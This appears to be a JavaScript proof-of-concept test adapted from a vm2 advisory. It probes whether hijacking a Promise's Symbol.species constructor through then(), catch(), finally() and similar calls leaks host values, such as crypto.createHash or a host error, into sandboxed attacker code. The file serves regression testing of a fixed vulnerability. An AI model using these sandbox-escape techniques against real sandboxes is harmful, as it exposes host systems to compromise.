// Source: vm2 test/ghsa/GHSA-6454-5x88-m6jw/repro.js (fixed after vm2 3.11.2, by 3.12.2): on a host Promise, `then()`
// with no onRejected let V8's internal Thrower pass the raw host reason to an attacker species.
// The original exposes host functions returning `Promise.reject(process)`; this sandbox has no host
// promise, so the PoC runs the same shapes on the promises it has, rejected with host values.
// Tried: species hijack + then() / then(onFulfilled) / catch() / finally() / then.call, a
// non-configurable hijacked constructor, and the fulfil side.
const out = {};
const probe = (label) => function (reason) { out[label] = typeof reason; __wr.use(reason, label); };
let hostReason;
try { new URL(''); } catch (e) { hostReason = e; }
const makers = { rejectHost: () => Promise.reject(hostReason), rejectFn: () => Promise.reject(crypto.createHash), resolveFn: () => Promise.resolve(crypto.createHash) };
const shapes = {
  then: (p) => p.then(),
  thenFulfilled: (p) => p.then((v) => v),
  catch: (p) => p.catch(),
  finally: (p) => p.finally(() => {}),
  thenCall: (p) => p.then.call(p, (v) => v),
};
for (const [maker, make] of Object.entries(makers)) {
  for (const [shape, call] of Object.entries(shapes)) {
    const label = maker + '.' + shape;
    const p = make();
    try {
      p.constructor = { [Symbol.species]: function (ex) { ex(probe(label + ' fulfil'), probe(label + ' reject')); } };
      const r = call(p);
      if (r && typeof r.catch === 'function') r.catch(() => undefined);
    } catch (e) { out[label] = String(e.message).slice(0, 50); }
    p.catch(() => undefined);
  }
}
try {
  const p = makers.rejectHost();
  Object.defineProperty(p, 'constructor', { value: { [Symbol.species]: function (ex) { ex(() => {}, probe('nonConfigurable')); } }, configurable: false, writable: false });
  p.then();
} catch (e) { out.nonConfigurable = String(e.message).slice(0, 50); }
await sleep(20);
return out;
